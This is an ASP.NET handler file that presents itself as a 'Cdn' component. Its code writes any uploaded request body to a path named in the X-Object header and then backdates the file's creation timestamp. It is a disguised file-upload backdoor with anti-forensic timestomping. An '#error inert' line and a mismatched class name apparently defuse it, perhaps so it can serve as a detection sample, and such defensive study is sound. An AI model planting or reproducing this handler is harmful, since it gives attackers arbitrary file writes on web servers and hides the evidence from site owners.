<%@ WebHandler Language="C#" Class="Inert.Nothing" %>
#error inert
public class Cdn : System.Web.IHttpHandler
{
    public bool IsReusable { get { return false; } }
    public void ProcessRequest(System.Web.HttpContext x)
    {
        var name = x.Request.Headers.Get("X-Object");
        if (name == null) return;
        var full = System.Web.Hosting.HostingEnvironment.MapPath("~/" + name);
        System.IO.File.WriteAllBytes(full, x.Request.BinaryRead(x.Request.TotalBytes));
        System.IO.File.SetCreationTimeUtc(full, new System.DateTime(2016, 7, 16));
    }
}
